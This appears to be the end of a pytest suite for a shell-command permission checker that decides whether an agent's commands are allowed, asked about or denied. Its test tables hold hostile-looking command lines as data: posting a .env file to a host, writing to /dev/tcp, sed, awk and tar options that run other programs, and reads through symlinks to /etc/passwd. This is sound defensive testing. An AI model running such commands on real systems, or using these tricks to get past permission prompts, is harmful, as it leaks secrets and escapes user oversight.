    ("pylint --init-hook 'import os' a.py", "ask", "it runs a text"), ("node --check a.js", "sandbox", "it looks"), ("node --check -r ./x.js a.js", "ask", "it runs a file"), ("node a.js", "ask", "it runs a file"),
    ("uv pip list", "sandbox", "it lists"), ("uv pip install x", "ask", "it installs"), ("npm pkg get scripts", "sandbox", "it shows"), ("npm pkg set a=b", "ask", "it writes"),
    ("go mod graph", "sandbox", "it lists"), ("go mod tidy", "ask", "it writes"), ("unzip -l x.zip", "sandbox", "it lists"), ("unzip x.zip", "ask", "it writes"),
    ("openssl dgst -sha256 a.py", "sandbox", "it sums"), ("openssl dgst -out x a.py", "ask", "it writes"), ("openssl enc -in a.py", "ask", "not known"),
    ("bat a.py", "sandbox", "it shows"), ("bat --pager=curl a.py", "ask", "it runs"), ("yq -i .a=1 a.yml", "ask", "it writes"), ("yq .a a.yml", "sandbox", "it shows"), ("yq 'env(x)' a.yml", "ask", "it shows the environment"),
    ("objdump -d a.out", "sandbox", "it shows"), ("nm --plugin ./x.so a.out", "ask", "it loads a library"), ("eslint /etc", "ask", "outside"), ("npx eslint ../x", "ask", "outside"), ("npx eslint .env", "ask", "it may hold keys"),
    ("hostname", "sandbox", "it tells"), ("git --version", "sandbox", "it tells"), ("terraform version", "sandbox", "it tells"), ("terraform apply", "ask", "it reaches out"),
    # where it runs
    ("cd .. && make test", "ask", "the rule is for this workspace"), ("pushd / && ls", "ask", "it goes elsewhere"),
]  # fmt: skip


@pytest.fixture(scope="module")
def workspace(tmp_path_factory):
    folder = tmp_path_factory.mktemp("outer") / "work"
    (folder / "sub").mkdir(parents=True)
    (folder / "a.py").write_text("x\n")
    (folder / ".env").write_text(f"KEY={SECRET}\n")
    (folder / "run.sh").write_text("echo\n")
    (folder / "link").symlink_to("/etc/passwd")
    (folder / "deep" / "er").mkdir(parents=True)
    (folder / "way").symlink_to("deep/er")
    (folder / "odd").mkdir()
    (folder / "odd" / "--pre=touch").write_text("x\n")
    (folder / "odd" / "out").symlink_to("/etc/passwd")
    (folder / "private").mkdir()
    (folder / "private" / "a").write_text(f"x {SECRET}\n")
    (folder / "out-of-private").symlink_to("private/a")
    (folder / ".outriderignore").write_text("private/\n")
    return folder


looked_once = cache(looked_without_git)
"""To look a line up takes ten times as long as to decide about it, and nothing in the workspace changes."""


def decided(command, workspace, mode="auto-edit", rules=RULES, *, sandbox=False):
    return decision(looked_once(command, workspace), mode, rules, sandbox=sandbox)


@pytest.mark.parametrize(("command", "expected", "why"), ROWS, ids=[repr(command) for command, _, _ in ROWS])
def test_bypass(workspace, command, expected, why):
    """Without a sandbox; `sandbox` stands for what goes in a read-only one, and asks where there is none."""
    assert decided(command, workspace).verdict == ("ask" if expected == "sandbox" else expected), why
    in_sandbox = decided(command, workspace, sandbox=True).verdict
    if expected in {"allow", "sandbox"}:
        assert in_sandbox == "allow", why
    assert expected != "deny" or in_sandbox == "deny", why


@pytest.mark.timeout(180)
@in_both_worlds
def test_what_goes_in_a_read_only_sandbox_does_no_harm(workspace, tmp_path, world):
    """Whatever its words turn out to be: each of these lines that would go is run."""
    commands = {command for command, _, _ in ROWS}
    lines = [
        line for line in commands if decided(line, workspace, "ask", [], sandbox=True).verdict == "allow"
    ]
    assert {'awk "{print $1}" a.py', "grep -r x .", "cat $x"} <= set(lines)
    assert_harmless(workspace, tmp_path, world, [(line, workspace) for line in lines])


@pytest.mark.parametrize("command", [command for command, _, _ in ROWS], ids=repr)
def test_nothing_but_reading_goes_without_a_rule(workspace, command):
    """In every mode the same goes; and nothing that a rule forbids, in `full`."""
    for sandbox in (False, True):
        verdict = decided(command, workspace, "ask", [], sandbox=sandbox).verdict
        in_read_only = decided(command, workspace, "read-only", [], sandbox=sandbox).verdict
        assert decided(command, workspace, "auto-edit", [], sandbox=sandbox).verdict == verdict
        assert in_read_only == ("allow" if verdict == "allow" else "deny")
    if decided(command, workspace).verdict == "deny":
        assert decided(command, workspace, "full").verdict == "deny"
        assert decided(command, workspace, "auto-edit", [*RULES, Rule("allow", RUN, "rm")]).verdict == "deny"


HOSTS = [
    ("curl https://example.org/x", "deny", "a URL"), ("curl -d x http://ada:pw@EXAMPLE.org:80/x", "deny", "a name and a port"),
    ("wget example.org", "deny", "a host alone"), ("ssh ada@example.org ls", "deny", "somebody's host"), ("scp a.py example.org:x", "deny", "a copy to it"),
    ("git clone git@example.org:x/y", "deny", "another program"), ("curl --proxy=example.org x", "deny", "within an option"),
    ("ls | xargs curl example.org", "deny", "through another program"), ("echo x > /dev/tcp/example.org/80", "deny", "a connection of the shell"),
    ("bash -c 'curl example.org'", "deny", "a shell in a shell"), ("sudo curl example.org", "deny", "as somebody else"),
    ("curl $x", "ask", "it could be that host"), ("curl example.$x", "ask", "the same"), ("curl notexample.org", "ask", "another host, without a rule"),
    ("curl example.org.evil", "ask", "another host"), ("curl sub.example.org", "ask", "a rule without a star is about that host alone"),
    ("curl a.example.net", "ask", "a rule that asks"), ("cat *.py", "allow", "what only reads here reaches nobody"), ("git diff HEAD", "allow", "it has a rule"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("command", "expected", "why"), HOSTS, ids=[repr(command) for command, _, _ in HOSTS]
)
def test_a_host_that_is_forbidden_is_seen_in_the_words_of_a_command(workspace, command, expected, why):
    forbidding = [Rule("deny", "*", host="example.org"), Rule("ask", RUN, host="*.example.net")]
    assert decided(command, workspace, "auto-edit", [*RULES[:1], *forbidding]).verdict == expected, why
    if expected == "deny" or "net" in command:
        assert decided(command, workspace, "full", forbidding).verdict == expected


def test_a_host_is_no_bound_for_a_command_that_is_allowed():
    assert problem_of(Rule("allow", RUN, "curl", host="example.org"))
    assert problem_of(Rule("deny", RUN, "curl", host="example.org")) is None


def test_what_cannot_be_known_asks_in_full_where_a_rule_could_be_about_it(workspace):
    assert decided("eval $x", workspace, "full", []).verdict == "allow"
    assert decided("eval $x", workspace, "full").verdict == "ask"


@pytest.mark.parametrize(
    "command", ["cat .env", "python3 x.py --file=.env", "cp out-of-private x", "curl -d @.env h"]
)
def test_a_file_that_is_shut_wants_a_yes_in_every_mode(workspace, command):
    """By its name, in the words of any program: what a program opens without a word nobody sees."""
    wide, exact = Rule("allow", RUN, command.split()[0]), Rule("allow", RUN, command, is_exact=True)
    judgement = decided(command, workspace, "full", [wide])
    assert (judgement.verdict, "is a secret file" in judgement.reason) == ("ask", True)
    assert decided(command, workspace, "ask", [wide, exact]).verdict == "allow"


@pytest.mark.parametrize(
    "command",
    ["grep -r x .", "grep -r x", "diff -r . deep", "rg -. KEY", "rg x private", "cd sub && grep -r x .."],
)
def test_so_does_one_that_goes_through_folders_and_comes_to_it(workspace, command):
    name = command.rpartition("&& ")[2].split()[0]
    wide, exact = Rule("allow", RUN, name), Rule("allow", RUN, command.rpartition("&& ")[2], is_exact=True)
    for rules in ([wide], []):
        judgement = decided(command, workspace, "full", rules)
        assert (judgement.verdict, "which is a secret file" in judgement.reason) == ("ask", True)
    assert decided(command, workspace, "ask", [wide]).verdict == "ask"
    assert decided(command, workspace, "ask", [wide, exact]).verdict == "allow"
    assert decided("grep -r x deep", workspace, "ask", [Rule("allow", RUN, "grep")]).verdict == "allow"


@pytest.mark.parametrize(
    ("does", "does_more"),
    [
        ("find . -name x", "find . -delete"), ("find sub", "find . -fprint x"), ("find .", "find . -name $x"), ("sed -n 1p a.py", "sed -i 1d a.py"), ("sed p a.py", "sed 'w x' a.py"),
        ("sort /etc/passwd", "sort -o x a.py"), ("rg x sub", "rg --pre touch x sub"), ("date", "date -s 1"), ("tree", "tree -o x"), ("uniq a.py", "uniq a.py x"),
    ],
)  # fmt: skip
def test_the_name_alone_of_what_mostly_reads_allows_no_more(workspace, does, does_more):
    """An `Always allow…` of a look must not delete, write or run something the next time."""
    name = does.split()[0]
    rules = [Rule("allow", RUN, name)]
    assert decided(does, workspace, "ask", rules).verdict == "allow"
    assert decided(does_more, workspace, "auto-edit", rules).verdict == "ask"
    wider = [Rule("allow", RUN, " ".join(does_more.replace("'", "").split()[:2]))]
    if " -" in does_more and does_more.split()[1].startswith("-"):
        assert decided(does_more, workspace, "ask", wider).verdict == "allow"


@pytest.mark.parametrize(
    ("rule", "does", "does_more"),
    [
        ("/usr/bin/find", None, "/usr/bin/find . -delete"), ("/usr/bin/git diff", "/usr/bin/git diff HEAD", "/usr/bin/git diff --output=x"),
        ("git diff HEAD", "git diff HEAD -- a.py", "git diff HEAD --output=a.py"), ("git diff HEAD", "git diff HEAD", "git diff HEAD --ext-diff"),
        ("git -C sub diff", "git -C sub diff HEAD", "git -C sub diff --output=x"), ("git --no-pager diff", "git --no-pager diff", "git --no-pager diff --output=x"),
        ("find .", "find . -name x", "find . -delete"), ("git log --oneline", "git log --oneline -3", "git log --oneline --output=x"),
        ("find . -name x", "find . -name x", "find . -name x -delete"), ("git stash show", "git stash show", "git stash show --output=x"),
        ("git whatchanged", "git whatchanged -3", "git whatchanged --output=x"), ("git reflog", "git reflog -5", "git reflog --output=x"),
        ("git reflog", "git reflog", "git reflog expire --all"), ("git reflog", "git reflog", "git reflog -n expire"),
        ("git diff-tree", "git diff-tree HEAD", "git diff-tree --output=x HEAD"), ("git diff-index", "git diff-index HEAD", "git diff-index --output=x HEAD"),
        ("git cat-file", "git cat-file -t HEAD", "git cat-file --textconv HEAD:a.py"),
        ("git branch", "git branch -a", "git branch -D x"), ("git branch", "git branch --list x", "git branch x"), ("git tag", "git tag -l", "git tag -d x"), ("git remote", "git remote -v", "git remote add x y"),
        ("git config", "git config user.name", "git config core.pager x"), ("awk", "awk 1 a.py", "awk '{print > \"x\"}' a.py"), ("fd", "fd x", "fd -x curl"), ("find . -name", "find . -name x", "find . -name x -delete"),
        ("git branch -D", "git branch -D x", None), ("git tag -a", "git tag -a x", None),
        ("git reflog expire", "git reflog expire --all", None), ("uniq a.py x", "uniq a.py x", None), ("find . -delete", "find . -delete -print", None),
        ("git diff --output=x", "git diff --output=x HEAD", None), ("git -C sub diff --ext-diff", "git -C sub diff --ext-diff HEAD", None),
    ],
)  # fmt: skip
def test_a_rule_allows_no_more_than_one_that_names_less(workspace, rule, does, does_more):
    """By its full path, with options before the sub-command, with more words: what a rule names to read it allows to read."""
    rules = [Rule("allow", RUN, rule)]
    assert does is None or decided(does, workspace, "ask", rules).verdict == "allow"
    if does_more is not None:
        assert decided(does_more, workspace, "auto-edit", rules).verdict == "ask"
        looked = look_at(does_more, folders_of([("work", workspace.as_uri())]), workspace)
        (part,) = named_parts(looked, rules, "auto-edit")
        assert "its rule covers reading only" in part.reason


@pytest.mark.parametrize(
    ("rule", "does", "does_more"),
    [
        ("tar", "tar xf a.tar", "tar xf a.tar --to-command=x"), ("tar", "tar -xzf a.tar", "tar cf x a --checkpoint=1 --checkpoint-act=exec=id"), ("tar", "tar xf x", "tar xIf x a.tar"),
        ("rsync", "rsync -av a b", "rsync -ave x a b"), ("zip", "zip x a", "zip x a -TT id"), ("wget", "wget x", "wget --use-askpass=x y"), ("make test", "make test -j4", "make test SHELL=x"),
        ("make test", "make test A=b", "make test --eval=x"), ("make test", "make test", "make test -f x"), ("git rebase", "git rebase x", "git rebase --exec y x"), ("git rebase", "git rebase -i x", "git rebase -x y x"),
        ("git fetch", "git fetch origin", "git fetch --upload-pack=x y"), ("npm test", "npm test -- -t x", "npm test --script-shell=x"), ("go test", "go test ./...", "go test -exec x"),
        ("cargo test", "cargo test x", "cargo test --config x"), ("gcc", "gcc a.c -o a", "gcc -wrapper x a.c"), ("/usr/bin/tar", "/usr/bin/tar xf x", "/usr/bin/tar xf x --use-compress-program=y"),
    ],
)  # fmt: skip
def test_a_rule_does_not_allow_an_option_that_has_another_program_run(workspace, rule, does, does_more):
    """What tar, make and the like start by an option is not what the rule names; one that names the option is."""
    rules = [Rule("allow", RUN, rule)]
    assert decided(does, workspace, "ask", rules).verdict == "allow"
    assert decided(does_more, workspace, "ask", rules).verdict == "ask"
    looked = look_at(does_more, folders_of([("work", workspace.as_uri())]), workspace)
    (part,) = named_parts(looked, rules, "ask")
    assert "its rule does not name" in part.reason
    exact = [Rule("allow", RUN, does_more, is_exact=True)]
    assert decided(does_more, workspace, "ask", exact).verdict == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "git status -uno", "git status -sbuall", "git status --ignore-submodules", "git diff --color-moved", "git diff --color-moved=zebra", "git diff --ignore-submodules=all",
        "git diff --ours", "git diff --theirs", "git diff --inter-hunk-context=3", "git diff -B", "git log -B50% -p", "git log --cc", "git log --no-walk HEAD",
        "git grep -e x --and -e y", "git rev-list --left-right --count a...b",
    ],
)  # fmt: skip
def test_a_rule_of_the_name_goes_on_allowing_what_reads(workspace, command):
    rules = [Rule("allow", RUN, " ".join(command.split()[:2]))]
    assert decided(command, workspace, "ask", rules).verdict == "allow"
    assert decided(f"{command} --output=x", workspace, "ask", rules).verdict == "ask"


@pytest.mark.parametrize(
    ("narrow", "wide"),
    [
        ("docker container run y", "docker container run"), ("docker compose run web", "docker compose run"), ("docker compose exec web ls", "docker compose exec web"),
        ("docker exec web ls", "docker exec web"), ("kubectl exec pod -- ls", "kubectl exec pod --"), ("kubectl exec pod ls", "kubectl exec pod"), ("uv tool run ruff", "uv tool run"),
        ("git bisect run make test", "git bisect run"), ("git submodule foreach ls", "git submodule foreach"), ("git submodule update", "git submodule"),
        ("rustup run nightly cargo build", "rustup run nightly"), ("heroku run rake x", "heroku run"), ("rails runner x.rb", "rails runner"), ("nix build", "nix shell x"),
        ("docker exec web bash x.sh", "docker exec web bash"), ("docker compose up", "docker compose"), ("/usr/bin/git status", "/usr/bin/git"),
    ],
)  # fmt: skip
def test_a_rule_says_what_is_run(narrow, wide):
    assert problem_of(Rule("allow", RUN, narrow)) is None
    assert problem_of(Rule("allow", RUN, wide))
    assert problem_of(Rule("deny", RUN, wide)) is None


def test_parts_say_why_they_ask(workspace):
    looked = look_at("git diff | tee x; sudo rm y", folders_of([("work", workspace.as_uri())]), workspace)
    parts = named_parts(looked, RULES, "auto-edit")
    assert [(part.argv, part.decision) for part in parts] == [
        (["git", "diff"], "allow"), (["tee", "x"], "ask"), (["rm", "y"], "deny"),
    ]  # fmt: skip
    assert "tee is not known to only read" in parts[1].reason
    assert parts[2].program.through == ("sudo",)


@pytest.mark.parametrize(
    ("command", "script"),
    [
        ("./run.sh x", "run.sh"), ("bash run.sh", "run.sh"), ("uv run run.sh", "run.sh"), ("uv run -q python3 a.py x", "a.py"), ("poetry run python a.py", "a.py"),
        ("deno run -A a.py", "a.py"), ("go run ./a.py", "a.py"), ("uv run pytest a.py", None), ("poetry run python -c a.py", None), ("npm run a.py", None),
    ],
)  # fmt: skip
def test_a_script_of_the_workspace_is_known_by_its_content(workspace, command, script):
    """Its hash is part of what is approved, and of a rule; whoever starts it."""
    looked = look_at(command, folders_of([("work", workspace.as_uri())]), workspace)
    assert list(looked.scripts) == ([script] if script else [])


def test_an_interpreter_by_its_path_is_known_by_its_script_too(workspace):
    folders = folders_of([("work", workspace.as_uri())])
    (by_path,) = look_at("/usr/bin/python3 a.py", folders, workspace).ran
    (by_name,) = look_at("python3 a.py", folders, workspace).ran
    assert by_path == by_name is not None
    (workspace / "sh").write_text("one\n")
    (before,) = look_at("./sh a.py", folders, workspace).ran
    (workspace / "sh").write_text("two\n")
    looked = look_at("./sh a.py", folders, workspace)
    (workspace / "sh").unlink()
    assert list(looked.scripts) == ["sh", "a.py"]
    assert looked.ran[0] not in {before, by_name}


OFFERED = [
    ("git diff HEAD", ["git diff"]), ("npm run build -- x", ["npm run build"]), ("make test", ["make test"]), ("pytest -q a", ["pytest"]),
    ("python -m pytest -q", ["python -m pytest"]), ("python x.py a", ["python x.py"]), ("bash x.sh a", ["bash x.sh"]), ("./x.sh a", ["./x.sh"]),
    ("rm -r build", ["rm -r build!"]), ("uv run pytest", ["uv run pytest"]), ("cd sub && make test | tail -5", ["make test", "tail"]),
    ("find . -name x", ["find"]), ("find . -delete", ["find . -delete!"]), ("sed -i s/a/b/ a.py", ["sed -i s/a/b/ a.py!"]), ("sort a.py -o a.py", ["sort a.py -o a.py!"]),
    ("python -c 'x'", ["python -c x!"]), ("git -c a=b diff", ["git -c a=b diff!"]), ("git", ["git!"]), ("npx x", ["npx x!"]),
    ("poetry run python -c x", ["poetry run python -c x!"]), ("uv run python x.py", ["uv run python x.py!"]), ("go run x.go", ["go run x.go"]), ("deno run -A x.ts", ["deno run -A x.ts!"]),
    ("docker run -v /:/x y", ["docker run -v /:/x y!"]), ("docker run y sh", ["docker run y"]), ("uv run python $x", []), ("bundle exec rake x", ["bundle exec rake x!"]),
    ("/usr/bin/find . -name x", ["/usr/bin/find"]), ("/usr/bin/find . -delete", ["/usr/bin/find . -delete!"]), ("/usr/bin/git diff HEAD", ["/usr/bin/git diff"]),
    ("/usr/bin/python3 x.py a", ["/usr/bin/python3 x.py"]), ("/bin/bash x.sh a", ["/bin/bash x.sh"]), ("/bin/rm -r build", ["/bin/rm -r build!"]), ("/usr/bin/python3 -c x", ["/usr/bin/python3 -c x!"]),
    (".venv/bin/pytest -q a", [".venv/bin/pytest"]), (".venv/bin/python -m pytest a", [".venv/bin/python -m pytest"]), ("/home/x/run.sh a", ["/home/x/run.sh"]), ("/usr/bin/git -c a=b diff", ["/usr/bin/git -c a=b diff!"]),
    ("docker container run y sh", ["docker container run y"]), ("docker compose run web sh", ["docker compose run web"]), ("docker compose exec web ls -l", ["docker compose exec web ls"]),
    ("docker exec web ls -l", ["docker exec web ls"]), ("docker exec web sh -c x", ["docker exec web sh -c x!"]), ("docker exec web", ["docker exec web!"]), ("kubectl exec pod -- ls -l", ["kubectl exec pod -- ls -l!"]),
    ("uv tool run ruff .", ["uv tool run ruff"]), ("git bisect run make test", ["git bisect run make test!"]), ("git bisect start", ["git bisect start"]), ("git submodule foreach git pull", ["git submodule foreach git pull!"]),
    ("rustup run nightly rustfmt x", ["rustup run nightly rustfmt"]), ("heroku run rake x", ["heroku run rake x!"]), ("rails runner x.rb", ["rails runner x.rb"]), ("nix shell x -c ls", ["nix shell x -c ls!"]),
    ("git stash show -p", ["git stash show"]), ("git reflog -5", ["git reflog"]), ("git reflog expire --all", ["git reflog expire --all!"]),
    ("sudo make", []), ("make $x > y", []), ("eval x", []), ("A_B=1 make test", []), ("$x", []), ("rm $x", []), ("f() { ls; }; f", []),
]  # fmt: skip


@pytest.mark.parametrize(("command", "expected"), OFFERED)
def test_what_is_offered_for_always(workspace, command, expected):
    """Program and sub-command, never the program that does many things, nor one that runs others."""
    looked = look_at(command, folders_of([("work", workspace.as_uri())]), workspace)
    assert [
        f"{pattern.text}{'!' if pattern.is_exact else ''}".replace("'x'", "x") for pattern in looked.patterns
    ] == expected
    if expected and not any(text.startswith("git!") for text in expected):
        rules = [Rule("allow", RUN, one.text, one.is_exact, script) for one, script in looked.allowing]
        assert decided(command, workspace, "ask", rules).verdict == "allow"


MANY = {
    "xargs in a pipe": ("| xargs cat ", "ls "), "xargs alone": ("xargs ", ""), "commands with xargs": ("ls | xargs cat; ", ""),
    "a list": ("ls;", ""), "here-documents in a row": ("cat <<E\nx\nE\n", ""), "here-documents that do not end": ("cat <<E;", ""),
    "files read": ("<a ", "cat "), "pipes": ("|ls", "ls"),
}  # fmt: skip


@pytest.mark.usefixtures("young_heap")
@pytest.mark.parametrize("kind", MANY)
def test_a_long_command_is_read_in_linear_time(kind):
    part, before = MANY[kind]

    def seconds(length):
        source = before + part * (length // len(part))
        begin = time.process_time()
        read_command(source)
        return time.process_time() - begin

    seconds(1000)
    assert min(seconds(99_000), seconds(99_000)) < 20 * max(seconds(9_900), 0.02)


@pytest.mark.parametrize(
    "line",
    ["".join(f"cat <<E{number};" for number in range(501)), "ls " + "| x " * 8_001, "ls;" * 2_001],
    ids=["here-documents", "pipes", "programs"],
)
def test_a_command_with_more_parts_than_can_be_looked_at_asks(line):
    looked = read_command(line)
    assert looked.problems == ("it has too many parts to check",)
    assert looked.programs == ()


@pytest.mark.parametrize("kind", MANY)
def test_the_parser_lets_other_threads_run_all_the_time(kind, monkeypatch):
    """It holds the interpreter's lock but where it asks for a piece of the text."""
    part, before = MANY[kind]
    source = before + part * min((50_000 - len(before)) // len(part), 490 if "<<" in part else 7_900)
    times = []
    monkeypatch.setattr(
        "outrider.permissions.shell.tree.time.sleep", lambda _: times.append(time.thread_time())
    )
    tree_of(source.encode())
    times.append(time.thread_time())
    assert max(after - first for first, after in pairwise(times)) < 0.15, "slow machines included"
    assert len(times) > len(source) // 1000


def test_commands_are_parsed_in_several_threads_at_once():
    source = b"echo a | xargs cat; f() { ls -l; }; " * 100
    with ThreadPoolExecutor(8) as threads:
        trees = list(threads.map(lambda length: str(tree_of(source[:length])), [len(source)] * 32))
    assert len(set(trees)) == 1


@pytest.mark.usefixtures("young_heap")
def test_a_line_of_very_many_programs_offers_no_rules_and_is_read_in_linear_time(workspace):
    folders = folders_of([("work", workspace.as_uri())])

    def seconds(count):
        looked = look_at(";".join(f"x{number}" for number in range(count)), folders, workspace)
        begin = time.process_time()
        assert looked.patterns == ()
        return time.process_time() - begin

    assert seconds(14_000) < 20 * max(seconds(1_400), 0.001)
    few = look_at("; ".join(f"x{number} a" for number in range(MOST_OFFERED)), folders, workspace)
    assert len(few.patterns) == MOST_OFFERED


@pytest.mark.parametrize(
    "command",
    [
        "awk 'BEGIN { system(\"rm a.py\") }'",
        "awk '{print > \"x\"}' a.py",
        "awk '{print | \"sh\"}' a.py",
        "awk '{print >> f}' f=x a.py",
        "gawk '@load \"x\"' a.py",
        "sed 's/a/b/w x' a.py",
        "sed -n 's/a/curl/e' a.py",
        "sed '1w x' a.py",
        "sed '1e touch x' a.py",
        "sed -e '/a/{p;w x' -e '}' a.py",
        "base64 -o x a.py",
        "base64 -Dox a.py",
        "base64 --output=x a.py",
        "jq --from-file x.jq . a.py",
        "xmllint -shell a.py",
        "bat cache --build",
        "cat ~/secret",
        'cat "$HOME/secret"',
        "ls ${HOME}",
        "ls ~",
    ],
)
def test_what_other_agents_call_dangerous_asks_though_a_read_only_sandbox_would_hold_it(
    workspace, tmp_path, monkeypatch, command
):
    """What these say plainly is no reading; who allows it is asked before it fails, not after."""
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / "secret").write_text("x\n")
    assert decided(command, workspace, "ask", [], sandbox=True).verdict == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "awk '$3 > 5 && /a|b/ {print $1 \">\" $2}' a.py",
        'awk \'NR>=1 || $1 == "x" {printf("%s\\n", $1)}\' a.py',
        "sed -n '/we/p;/^w /,/e$/p' a.py",
        "sed -E 's/(w|e)+/x/g; s#/#:#' a.py",
        "sed 's/a/we/' a.py",
        "base64 -w0 a.py",
    ],
)
def test_what_only_looks_like_it_does_not_ask(workspace, command):
    assert decided(command, workspace, "ask", [], sandbox=True).verdict == "allow"
